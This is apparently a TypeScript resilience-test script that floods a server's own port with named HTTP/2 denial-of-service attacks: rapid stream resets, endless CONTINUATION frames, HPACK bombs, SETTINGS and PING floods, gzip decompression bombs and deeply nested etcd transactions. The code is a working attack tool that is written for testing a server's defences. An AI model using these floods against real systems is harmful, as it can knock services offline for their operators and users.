/**
 * Floods of frames over a few connections, by name (reliability.md §4.2): each connection sends
 * bursts until the server ends it, and is followed by the next.
 *
 *   bun test/attacks/http2-flood.attack.ts <port> <seconds> <name of FLOODS> [ends]
 */
import {
  ACK,
  bytesField,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  HostileConnection,
  integer,
  keepStriking,
  message,
  PING,
  PRIORITY,
  PUT,
  RANGE,
  RST_STREAM,
  request,
  SETTINGS,
  settings,
  u32,
  WATCH,
  WINDOW_MAX,
  WINDOW_UPDATE,
  widen,
} from "./hostile-connection.ts";
import { runAttack } from "./script.ts";

const CONNECTIONS = 4;
const FRAMES_PER_BURST = 100;
/** For the server to end what is open, where it must: then a starved attacker proves it too. */
const GO_ON_MS = 5_000;
const CANCEL = 8;
const NONE = new Uint8Array(0);

/** What a connection has sent so far. */
interface State {
  nextId: number;
  round: number;
}

/** Frames of one burst; what is counted is their number. */
type Flood = (state: State) => Uint8Array[];

const KEY_A = message(bytesField(1, Buffer.from("a")));
const RANGE_HEAD = request(RANGE);
const WATCH_HEAD = request(WATCH);
const DEADLINE_HEAD = request(RANGE, [["grpc-timeout", "1n"]]);

function takeId(state: State): number {
  const id = state.nextId;
  state.nextId += 2;
  return id;
}

/** A whole request for a key. */
function rangeOf(id: number, head = RANGE_HEAD): Buffer {
  return Buffer.concat([frame(HEADERS, END_HEADERS, id, head), frame(DATA, END_STREAM, id, KEY_A)]);
}

/** The same frames again and again. */
function many(make: (state: State) => Uint8Array): Flood {
  return (state) => Array.from({ length: FRAMES_PER_BURST }, () => make(state));
}

/** `first` once, then `make` again and again. */
function after(first: Uint8Array, make: (state: State) => Uint8Array): Flood {
  const flood = many(make);
  return (state) => (state.round++ === 0 ? [first, ...flood(state)] : flood(state));
}

/** A request whose message never ends. */
const openWatch = frame(HEADERS, END_HEADERS, 1, WATCH_HEAD);

/** A block that puts an entry of nearly the whole table there, and names it again and again. */
function bomb(): Buffer {
  const value = Buffer.alloc(4000, "x");
  const entry = [Buffer.from([0x40, 1, 0x78]), integer(value.length, 7, 0), value];
  return Buffer.concat([...entry, Buffer.alloc(10_000, 0x80 | 62)]);
}

/** Each block replaces the whole table: entry after entry of half its size. */
function thrash(): Buffer {
  const value = Buffer.alloc(1900, "y");
  const entry = [Buffer.from([0x40, 1, 0x78]), integer(value.length, 7, 0), value];
  return Buffer.concat([RANGE_HEAD, ...entry, ...entry, ...entry, ...entry]);
}

/** As much of fields as a block may have, which go into no table. */
function largeFields(): Buffer {
  const value = Buffer.alloc(3700, "z");
  const field = [Buffer.from([0, 1, 0x78]), integer(value.length, 7, 0), value];
  return Buffer.concat([RANGE_HEAD, ...field, ...field, ...field, ...field]);
}

const LARGE_FIELDS = largeFields();
const THRASH = thrash();
const BOMB = bomb();
const HUFFMAN = Buffer.concat([
  RANGE_HEAD,
  Buffer.from([0, 1, 0x78]),
  integer(15_000, 7, 0x80),
  Buffer.alloc(15_000, 0),
]);
const BOMB_GZIP = Bun.gzipSync(Buffer.alloc(64 * 1024 * 1024));
/** As much as may come out, of as little as it may come from. */
const DENSE_GZIP = dense();

function dense(): Uint8Array<ArrayBuffer> {
  const plain = Buffer.alloc(2 * 1024 * 1024);
  for (let at = 0; at < plain.length; at += 2000) {
    for (let n = 0; n < 18; n++) plain[at + n] = (at * 7919 + n * 104_729) % 251;
  }
  return Bun.gzipSync(plain);
}

const TXN_HEAD = request("/etcdserverpb.KV/Txn");
const GZIP_HEAD = request(PUT, [["grpc-encoding", "gzip"]]);

const NESTED_TXN = nested(5000);

/** A transaction in a transaction, and so on (TxnRequest.success, RequestOp.request_txn). */
function nested(depth: number): Uint8Array {
  let inner: Uint8Array = NONE;
  for (let level = 0; level < depth; level++) inner = bytesField(2, bytesField(4, inner));
  return inner;
}

/** A request in frames. */
function framesOf(id: number, head: Buffer, bytes: Buffer): Uint8Array[] {
  const parts: Uint8Array[] = [frame(HEADERS, END_HEADERS, id, head)];
  for (let at = 0; at < bytes.length; at += 16_384) {
    const end = at + 16_384 >= bytes.length;
    parts.push(frame(DATA, end ? END_STREAM : 0, id, bytes.subarray(at, at + 16_384)));
  }
  return parts;
}

const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": many((state) => {
    const id = takeId(state);
    return Buffer.concat([rangeOf(id), frame(RST_STREAM, 0, id, u32(CANCEL))]);
  }),
  "rapid reset of streams": many((state) => {
    const id = takeId(state);
    const head = frame(HEADERS, END_HEADERS, id, WATCH_HEAD);
    return Buffer.concat([head, frame(RST_STREAM, 0, id, u32(CANCEL))]);
  }),
  "deadlines that have passed": after(widen(), (state) => {
    return rangeOf(takeId(state), DEADLINE_HEAD);
  }),
  "made reset: window update of 0": many((state) => {
    const id = takeId(state);
    return Buffer.concat([rangeOf(id), frame(WINDOW_UPDATE, 0, id, u32(0))]);
  }),
  "made reset: window overflow": many((state) => {
    const id = takeId(state);
    const head = frame(HEADERS, END_HEADERS, id, WATCH_HEAD);
    return Buffer.concat([head, frame(WINDOW_UPDATE, 0, id, u32(WINDOW_MAX))]);
  }),
  "made reset: DATA after the end": many((state) => {
    const id = takeId(state);
    return Buffer.concat([rangeOf(id), frame(DATA, 0, id, KEY_A)]);
  }),
  "made reset: HEADERS after the end": many((state) => {
    const id = takeId(state);
    return Buffer.concat([rangeOf(id), frame(HEADERS, END_HEADERS | END_STREAM, id, RANGE_HEAD)]);
  }),
  "made reset: PRIORITY of a wrong size": many((state) => {
    const id = takeId(state);
    return Buffer.concat([rangeOf(id), frame(PRIORITY, 0, id, Buffer.alloc(4))]);
  }),
  "made reset: wrong content-length": many((state) => {
    return rangeOf(takeId(state), request(RANGE, [["content-length", "1"]]));
  }),
  "made reset: malformed requests": many((state) => {
    return rangeOf(takeId(state), request(RANGE, [["connection", "close"]]));
  }),
  "empty CONTINUATION": after(
    frame(HEADERS, 0, 1, RANGE_HEAD),
    () => frame(CONTINUATION, 0, 1), //
  ),
  "endless CONTINUATION": after(frame(HEADERS, 0, 1, RANGE_HEAD), () => {
    return frame(CONTINUATION, 0, 1, Buffer.alloc(16_384));
  }),
  "Huffman blocks": many((state) => {
    return frame(HEADERS, END_HEADERS | END_STREAM, takeId(state), HUFFMAN);
  }),
  "HPACK bomb": many((state) => {
    return frame(HEADERS, END_HEADERS | END_STREAM, takeId(state), BOMB);
  }),
  "HPACK table thrash": many((state) => rangeOf(takeId(state), THRASH)),
  "large fields": many((state) => rangeOf(takeId(state), LARGE_FIELDS)),
  SETTINGS: many(() => settings([3, 100])),
  "SETTINGS, all full": many(() => {
    return settings(...Array.from({ length: 2700 }, (_, n) => [1, n] as const));
  }),
  "SETTINGS_MAX_FRAME_SIZE of 0": many(() => settings([5, 0])),
  "SETTINGS under many streams": (state) => {
    if (state.round++ > 0) return Array.from({ length: 10 }, () => settings([4, 1 + state.round]));
    return [
      frame(SETTINGS, ACK, 0),
      ...many((s) => frame(HEADERS, END_HEADERS, takeId(s), WATCH_HEAD))(state),
    ];
  },
  PING: many(() => frame(PING, 0, 0, Buffer.alloc(8))),
  PRIORITY: many(() => frame(PRIORITY, 0, 1, u32(3, 0).subarray(0, 5))),
  "empty DATA": after(openWatch, () => frame(DATA, 0, 1)),
  "empty HEADERS": many((state) => frame(HEADERS, END_HEADERS | END_STREAM, takeId(state), NONE)),
  "WINDOW_UPDATE of the connection": many(() => frame(WINDOW_UPDATE, 0, 0, u32(1))),
  "WINDOW_UPDATE of a stream": after(openWatch, () => frame(WINDOW_UPDATE, 0, 1, u32(1))),
  "frames of unknown types": many(() => frame(0xbe, 0xff, 7, Buffer.alloc(4))),
  "resets of streams that are over": after(rangeOf(1), () => {
    return frame(RST_STREAM, 0, 1, u32(CANCEL));
  }),
  "announcements of 4 GiB": many((state) => {
    const id = takeId(state);
    const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
    return Buffer.concat([frame(HEADERS, END_HEADERS, id, RANGE_HEAD), frame(DATA, 0, id, prefix)]);
  }),
  "gzip bombs": (state) => framesOf(takeId(state), GZIP_HEAD, message(BOMB_GZIP, 1)),
  "gzip that grows a hundred times": (state) => {
    return framesOf(takeId(state), GZIP_HEAD, message(DENSE_GZIP, 1));
  },
  "nested transactions": (state) => framesOf(takeId(state), TXN_HEAD, message(NESTED_TXN)),
};

await runAttack(async (attack) => {
  const [name = "", ends] = attack.args;
  const flood = FLOODS[name];
  if (flood === undefined) throw new Error(`no flood is called "${name}"`);
  const states = new WeakMap<HostileConnection, State>();
  await keepStriking(
    attack,
    CONNECTIONS,
    () => HostileConnection.begin(attack.port),
    (connection) => {
      const state = states.get(connection) ?? { nextId: 1, round: 0 };
      states.set(connection, state);
      const frames = flood(state);
      connection.send(...frames);
      attack.count("frames", frames.length);
    },
    ends === "ends" ? GO_ON_MS : 0,
  );
});
